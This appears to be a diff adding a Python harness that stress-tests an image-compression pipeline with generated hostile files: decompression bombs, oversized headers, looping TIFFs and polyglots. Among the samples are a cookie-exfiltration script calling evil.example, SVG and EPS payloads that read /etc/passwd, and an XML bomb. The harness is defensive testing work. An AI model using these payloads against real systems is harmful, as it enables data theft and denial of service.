@@ -1,0 +1,250 @@
+"""Hostile images by name, made on the spot; each must end in a rendition or an error of ours, in bounded memory.
+
+As a program it compresses every case whose name begins as the command line says, under the memory limit given there,
+and prints a line of JSON for each: its name, the outcome, the peak of the process's memory, the processor's seconds.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import struct
+import sys
+import time
+import zlib
+from collections.abc import Callable
+from functools import cache
+from pathlib import Path
+
+from PIL import Image
+
+from imgproc.errors import CompressError
+from imgproc.pipeline.compress import CompressOptions, compress
+from imgproc.supervisor import limit_memory
+
+MAX_PIXELS = 50_000_000
+SIDE = 7071  # squared just below the cap
+
+
+def _encode(image: Image.Image, image_format: str, **options: object) -> bytes:
+    stream = io.BytesIO()
+    image.save(stream, image_format, **options)
+    return stream.getvalue()
+
+
+def _chunk(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+
+def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, body: bytes = b"") -> bytes:
+    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
+    end = _chunk(b"IDAT", body or zlib.compress(bytes(10))) + _chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + end
+
+
+@cache
+def _zeros(size: int) -> bytes:
+    """Many zeros in few bytes."""
+    packer, block = zlib.compressobj(9), bytes(1024 * 1024)
+    packed = b"".join(packer.compress(block) for _ in range(size // len(block)))
+    return packed + packer.compress(bytes(size % len(block))) + packer.flush()
+
+
+def _frames(image_format: str, count: int) -> bytes:
+    frames = [Image.new("L", (64, 64), number % 256) for number in range(count)]
+    return _encode(frames[0], image_format, save_all=True, append_images=frames[1:])
+
+
+def _gif_of_large_frames() -> bytes:
+    """200 frames, each of which says that it is as large as the cap allows."""
+    head = b"GIF89a" + struct.pack("<HHBBB", SIDE, SIDE, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
+    frame = b"," + struct.pack("<HHHHB", 0, 0, SIDE, SIDE, 0) + b"\x02\x02\x4c\x01\x00"
+    return head + frame * 200 + b";"
+
+
+def _tiff(width: int, height: int, *entries: tuple[int, int, int, int]) -> bytes:
+    """A little-endian TIFF that says all this and holds nothing."""
+    own = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
+    tags = sorted({entry[0]: entry for entry in (*own, *entries)}.values())
+    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
+    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(4)
+
+
+def _endless_ifds() -> bytes:
+    """A TIFF whose directories lead in a circle."""
+    whole = _tiff(8, 8, (273, 4, 1, 8), (279, 4, 1, 64))
+    return whole[:-4] + struct.pack("<I", 8) + bytes(64)
+
+
+def _jpeg_header(width: int, height: int) -> bytes:
+    whole = bytearray(_encode(Image.new("RGB", (16, 16)), "JPEG"))
+    place = whole.index(b"\xff\xc0") + 5
+    whole[place : place + 4] = struct.pack(">HH", height, width)
+    return bytes(whole)
+
+
+def _scan_bomb(scans: int) -> bytes:
+    whole = _encode(Image.new("L", (4000, 4000), 128), "JPEG", progressive=True)
+    scan = whole[whole.rindex(b"\xff\xda") : -2]
+    return whole[:-2] + scan * scans + whole[-2:]
+
+
+@cache
+def _photo(image_format: str, **options: object) -> bytes:
+    return _encode(Image.effect_mandelbrot((400, 300), (-2, -1.5, 1, 1.5), 50), image_format, **options)
+
+
+def _largest(mode: str, image_format: str, **options: object) -> bytes:
+    return _encode(Image.new(mode, (SIDE, SIDE)), image_format, **options)
+
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
+HTML = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
+XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><svg>&c;</svg>'
+Case = tuple[Callable[[], bytes], str]
+CASES: dict[str, Case] = {
+    # Pixels: the header is believed, and refused, before anything is decoded.
+    "a PNG of 65,535 squared in 100 bytes": (lambda: _png(65535, 65535), "too_many_pixels"),
+    "a PNG as large as PNG goes": (lambda: _png(2**31 - 1, 2**31 - 1), "too_many_pixels"),
+    "a PNG of a billion pixels, whole": (
+        lambda: _png(32000, 32000, depth=1, colour=0, body=_zeros(32000 * 4001)),
+        "too_many_pixels",
+    ),
+    "a PNG just above the cap": (lambda: _png(SIDE + 1, SIDE, depth=1, colour=0), "too_many_pixels"),
+    "a JPEG of 65,500 squared": (lambda: _jpeg_header(65500, 65500), "too_many_pixels"),
+    "a BMP of 2 billion pixels a side": (
+        lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, *[0] * 6),
+        "too_many_pixels",
+    ),
+    "a TIFF of 100,000 squared": (lambda: _tiff(100_000, 100_000, (273, 4, 1, 8), (279, 4, 1, 8)), "too_many_pixels"),
+    "a GIF of 65,535 squared": (
+        lambda: b"GIF89a\xff\xff\xff\xff\0\0\0," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2\x4c\1\0;",
+        "too_many_pixels",
+    ),
+    "a GIF whose frame outgrows its screen": (
+        lambda: b"GIF89a\1\0\1\0\0\0\0," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\2\2\x4c\1\0;",
+        "too_many_pixels",
+    ),
+    "a WebP canvas of 16,777,216 squared": (
+        lambda: b"RIFF\xf8\3\0\0WEBPVP8X\x0a\0\0\0\2\0\0\0" + b"\xff" * 6 + bytes(1000),
+        "too_many_pixels",
+    ),
+    # The largest that pass: their memory is the worst that a worker sees.
+    "the largest RGBA PNG": (lambda: _largest("RGBA", "PNG"), "rendition"),
+    "the largest 16-bit PNG": (lambda: _largest("I;16", "PNG"), "rendition"),
+    "the largest palette PNG": (lambda: _largest("P", "PNG", transparency=0), "rendition"),
+    "the largest JPEG": (lambda: _largest("RGB", "JPEG"), "rendition"),
+    "the largest progressive JPEG": (lambda: _largest("RGB", "JPEG", progressive=True), "rendition"),
+    "the largest CMYK JPEG": (lambda: _largest("CMYK", "JPEG"), "rendition"),
+    "the largest CMYK TIFF": (lambda: _largest("CMYK", "TIFF", compression="tiff_deflate"), "rendition"),
+    "the largest floating-point TIFF": (lambda: _largest("F", "TIFF", compression="tiff_deflate"), "rendition"),
+    "the largest GIF": (lambda: _largest("P", "GIF"), "rendition"),
+    "one pixel high and very wide": (lambda: _encode(Image.new("L", (65500, 1)), "JPEG"), "rendition"),
+    # Animations and pages: the first one alone.
+    "an animated GIF of 2,000 frames": (lambda: _frames("GIF", 2000), "rendition"),
+    "a GIF of 200 empty frames at the cap": (_gif_of_large_frames, "truncated_image"),
+    "an animated PNG of 500 frames": (lambda: _frames("PNG", 500), "rendition"),
+    "an animated PNG that says four billion": (
+        lambda: _png(8, 8, _chunk(b"acTL", b"\xff" * 8), body=zlib.compress(bytes(8 * 25))),
+        "rendition",
+    ),
+    "an animated WebP of 200 frames": (lambda: _frames("WEBP", 200), "rendition"),
+    "a TIFF of 500 pages": (lambda: _frames("TIFF", 500), "rendition"),
+    "a TIFF whose pages lead in a circle": (_endless_ifds, "rendition"),
+    # Compressed text and profiles.
+    "a PNG text of 1 GiB": (lambda: _png(9, 9, _chunk(b"zTXt", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
+    "a PNG profile of 1 GiB": (lambda: _png(9, 9, _chunk(b"iCCP", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
+    "a PNG international text of 1 GiB": (
+        lambda: _png(9, 9, _chunk(b"iTXt", b"a\0\1\0\0\0" + _zeros(2**30))),
+        "corrupt_image",
+    ),
+    "1,000 PNG texts of 1 MiB": (
+        lambda: _png(9, 9, *[_chunk(b"zTXt", b"a\0\0" + _zeros(2**20))] * 1000),
+        "corrupt_image",
+    ),
+    "PNG pixels of 1 GiB for 9 x 9": (lambda: _png(9, 9, body=_zeros(2**30)), "rendition"),
+    "a JPEG profile that is not one": (lambda: _photo("JPEG", icc_profile=b"\xff" * 60_000), "rendition"),
+    # Truncated, lying, costly.
+    "half a JPEG": (lambda: _photo("JPEG")[:2000], "truncated_image"),
+    "half a WebP": (lambda: _photo("WEBP")[:1000], "truncated_image"),
+    "a PNG without pixels": (lambda: _png(9, 9), "truncated_image"),
+    "a PNG chunk that says 4 GiB": (lambda: _png(9, 9)[:33] + b"\xff\xff\xff\xffIDAT", "truncated_image"),
+    "a TIFF strip beyond the file": (
+        lambda: _tiff(64, 64, (273, 4, 1, 2**32 - 2), (279, 4, 1, 2**31)),
+        "truncated_image",
+    ),
+    "a TIFF tag of 4 billion values": (lambda: _tiff(64, 64, (273, 4, 2**32 - 1, 8)), "corrupt_image"),
+    "a progressive JPEG of 1,000 scans": (lambda: _scan_bomb(1000), "unsupported_format"),
+    "a progressive JPEG of 90 scans": (lambda: _scan_bomb(80), "rendition"),
+    "a run-length BMP of 30 million pixels": (
+        lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 9, 0, 0, 1078, 40, 6000, 5000, 1, 8, 1, *[0] * 5) + bytes(9999),
+        "unsupported_format",
+    ),
+    "an AVIF of nothing but boxes": (
+        lambda: b"\0\0\0\x18ftypavif" + bytes(12) + b"\0\0\0\x08free" * 9999,
+        "truncated_image",
+    ),
+    # Two files in one, and one dressed as another.
+    "a JPEG that is a web page too": (lambda: _photo("JPEG", comment=HTML), "rendition"),
+    "a GIF that is a script too": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "truncated_image"),
+    "a JPEG with a ZIP behind": (lambda: _photo("JPEG") + b"PK\3\4" + bytes(1000), "rendition"),
+    "a PNG with a script behind": (lambda: _photo("PNG") + HTML, "rendition"),
+    "SVG": (lambda: SVG, "not_an_image"),
+    "SVG after 60,000 spaces": (lambda: b" " * 60_000 + SVG, "not_an_image"),
+    "an XML bomb": (lambda: XML_BOMB, "not_an_image"),
+    "HTML": (lambda: HTML, "not_an_image"),
+    "EPS": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file", "not_an_image"),
+    "EPS in a Windows wrapper": (lambda: b"\xc5\xd0\xd3\xc6" + bytes(26) + b"%!PS-Adobe", "not_an_image"),
+    "PDF": (lambda: b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>", "not_an_image"),
+    "a Windows program": (lambda: b"MZ" + bytes(300), "not_an_image"),
+    "a Photoshop file": (lambda: b"8BPS\0\1" + bytes(20), "unsupported_format"),
+    "an icon": (lambda: b"\0\0\1\0\1\0" + bytes(20), "unsupported_format"),
+    "a JPEG signature alone": (lambda: b"\xff\xd8\xff", "truncated_image"),
+    "an empty file": (lambda: b"", "not_an_image"),
+    "50 MiB of zeros": (lambda: bytes(50 * 1024 * 1024), "not_an_image"),
+    "50 MiB of markup": (lambda: b"<" * (50 * 1024 * 1024), "not_an_image"),
+}
+
+
+def run(source: bytes) -> str:
+    """The outcome with the options of an upload that names none."""
+    try:
+        compress(source, options=CompressOptions(), max_pixels=MAX_PIXELS)
+    except CompressError as error:
+        return error.code
+    return "rendition"
+
+
+def main(begins: str, limit: int) -> None:
+    """Try the cases, each in a child of its own, which finds the libraries loaded and the source made."""
+    run(_photo("PNG"))
+    for name, (make, _) in CASES.items():
+        if name.startswith(begins):
+            source = make()
+            if (child := os.fork()) == 0:
+                _measure(name, source, limit)
+                os._exit(0)
+            _, status = os.waitpid(child, 0)
+            if status:
+                sys.exit(f"{name}: the process ended with {os.waitstatus_to_exitcode(status)}")
+
+
+def _measure(name: str, source: bytes, limit: int) -> None:
+    limit_memory(limit)
+    Path("/proc/self/clear_refs").write_text("5")  # the peak starts anew: proc(5)
+    started = time.process_time()
+    outcome = run(source)
+    seconds = time.process_time() - started
+    line = json.dumps({"name": name, "outcome": outcome, "peak": _peak(), "seconds": seconds, "bytes": len(source)})
+    os.write(sys.stdout.fileno(), f"{line}\n".encode())
+
+
+def _peak() -> int:
+    """Bytes of memory at most, as this process has had them since the peak was cleared."""
+    (line,) = (line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM"))
+    return int(line.split()[1]) * 1024
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], int(sys.argv[2]))
